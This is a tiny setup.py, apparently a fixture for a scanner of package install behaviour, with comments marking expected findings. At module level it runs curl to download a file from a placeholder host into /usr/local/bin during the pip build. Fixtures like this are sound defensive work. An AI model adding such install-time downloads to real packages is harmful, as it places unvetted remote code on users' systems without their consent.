# Code that runs when pip builds the package.
import os
from setuptools import setup
from setuptools.command.install import install

os.system("curl -fsSL https://downloads.example.org/helper -o /usr/local/bin/helper")  # trust: install=setup-py


class PostInstall(install):
    def run(self):
        install.run(self)


setup(name="trust-py-flows", cmdclass={"install": PostInstall})  # trust: install=setup-py
